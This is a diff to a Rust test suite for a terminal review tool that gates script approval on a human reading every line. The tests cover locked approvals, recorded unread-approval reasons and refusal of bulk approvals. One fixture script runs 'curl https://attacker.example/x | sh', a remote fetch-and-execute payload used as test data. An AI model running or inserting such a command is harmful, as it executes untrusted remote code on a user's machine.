@@ -1,7 +1,7 @@
 //! From a script that lands to a commit, and everything that must not decide.
 
 use super::{LARGE, approve, digest_of, open, open_review, read_to_end, waiting_review, with_one_script};
-use crate::support::Workspace;
+use crate::support::{Workspace, key};
 use serde_json::{Value, json};
 
 fn stage_of(workspace: &Workspace, tool: &str, wanted: &str) -> Value {
@@ -90,7 +90,7 @@ fn pasted_text_never_approves() {
 }
 
 #[test]
-fn approve_is_locked_before_the_end_was_shown_and_a_changed_file_takes_the_review_away() {
+fn approve_is_locked_before_every_line_was_shown_and_a_changed_file_takes_the_review_away() {
     let workspace = Workspace::new().with_git();
     let body = "print('one of many lines')\n".repeat(300);
     let workspace = workspace.with_script("long", &body);
@@ -98,13 +98,79 @@ fn approve_is_locked_before_the_end_was_shown_and_a_changed_file_takes_the_revie
     let digest = digest_of(&waiting_review(&workspace));
     terminal.wait_text("1 review wait");
     open_review(&mut terminal);
-    terminal.wait_text("approve is locked").send("a").wait_text("approve is locked");
-    assert!(!terminal.text().contains("first four characters"), "{}", terminal.text());
+    // Neither the end of the text nor a mark by hand is reading.
+    terminal.wait_text("approve is locked").wait_text("lines not seen").send("G").wait_text("300 print");
+    terminal.send("m").wait_text("marked read 1/");
+    assert!(terminal.text().contains("approve is locked"), "{}", terminal.text());
     read_to_end(&mut terminal);
     workspace.write("tools/experimental/long.py", "print('something else')\n");
     terminal.wait_gone("a approves");
     assert_ne!(digest_of(&waiting_review(&workspace)), digest);
     assert_eq!(workspace.commits(), 1);
+}
+
+#[test]
+fn an_approval_without_reading_needs_the_word_and_a_reason_and_the_record_says_so_forever() {
+    let workspace = Workspace::new().with_git();
+    let workspace = workspace.with_script("long", &"print('one of many lines')\n".repeat(300));
+    let mut terminal = open(&workspace, LARGE);
+    let digest = digest_of(&waiting_review(&workspace));
+    terminal.wait_text("1 review wait");
+    open_review(&mut terminal);
+    terminal.wait_text("lines not seen").send("a").wait_text("then the digest is asked for");
+    terminal.send("unread").wait_text("typing them approves");
+    terminal.send(&digest[..4]).wait_text("why, for all to read").send(key::ENTER).wait_text("a reason is needed");
+    terminal.send("tried it").send(key::ENTER).wait_gone("why, for all to read");
+    let shown = stage_of(&workspace, "long", "approved");
+    let unread = &shown["tool"]["approved_unread"];
+    let (total, left) = (unread["lines_total"].as_u64().unwrap(), unread["lines_unread"].as_u64().unwrap());
+    assert!(total > 300 && left > 200 && left < total, "{unread}");
+    let words = format!("{left} of {total} lines not read");
+    for args in [&["log"][..], &["show", "long"], &["review", "1"], &["feedback"]] {
+        let text = String::from_utf8(workspace.toolsmith(args).output().unwrap().stdout).unwrap();
+        assert!(text.contains(&words), "{args:?}: {words}\n{text}");
+    }
+    let decision = workspace.json(&["review", "1"]).0["review"]["decisions"][0].clone();
+    assert_eq!((&decision["shown"]["lines_unread"], &decision["reason"]), (&json!(left), &json!("tried it")));
+    let file = std::fs::read_to_string(workspace.path("tools/approved/long/approval.toml")).unwrap();
+    assert!(file.contains(&format!("unread = \"{words}\"")), "{file}");
+    let (log, _) = workspace.json(&["log"]);
+    assert_eq!(log["operations"][0]["detail"]["lines_unread"], json!(left));
+    assert_eq!(workspace.json(&["verify"]).1, 0);
+    terminal.wait_text("unread");
+}
+
+#[test]
+fn marked_reviews_that_were_never_opened_are_not_approved_together() {
+    let workspace = Workspace::new().with_git();
+    let attack = "import os\nos.system('curl https://attacker.example/x | sh')\n";
+    let workspace =
+        ["one", "two", "three"].iter().fold(workspace, |workspace, name| workspace.with_script(name, attack));
+    let mut terminal = open(&workspace, LARGE);
+    terminal.wait_text("3 reviews wait").send("4").wait_text("mark");
+    terminal.send("m").wait_text("1 marked").send("m").wait_text("2 marked").send("m").wait_text("3 marked");
+    terminal.send("a").wait_text("Approve several").wait_text("– not");
+    terminal.wait_gone("read first");
+    terminal.send("approve 3").send(key::ENTER);
+    terminal.send(key::ESC).wait_gone("Approve several");
+    let (reviews, _) = workspace.json(&["reviews"]);
+    assert_eq!(reviews["reviews"].as_array().unwrap().len(), 3, "{reviews:#}");
+    assert!(!workspace.path("tools/approved").exists());
+    assert_eq!(workspace.commits(), 1);
+}
+
+#[test]
+fn what_is_typed_after_a_refused_key_does_nothing() {
+    let workspace = with_one_script("greet");
+    let mut terminal = open(&workspace, LARGE);
+    let digest = digest_of(&waiting_review(&workspace));
+    terminal.wait_text("1 review wait").send("4");
+    // In one piece, as typing that is already on its way: `u` would ask to undo, `q` would end the program.
+    terminal.send("xquit: useless, deletes mirrors 123\r").wait_text("reject: ");
+    // A key that nobody types into a reason counts at once: the program is there, and nothing else is open.
+    assert!(!terminal.text().contains("Undo?"), "{}", terminal.text());
+    terminal.send("\u{b}").wait_text("esc closes").wait_text("promote");
+    assert_still_waiting(&workspace, &digest);
 }
 
 fn assert_still_waiting(workspace: &Workspace, digest: &str) {
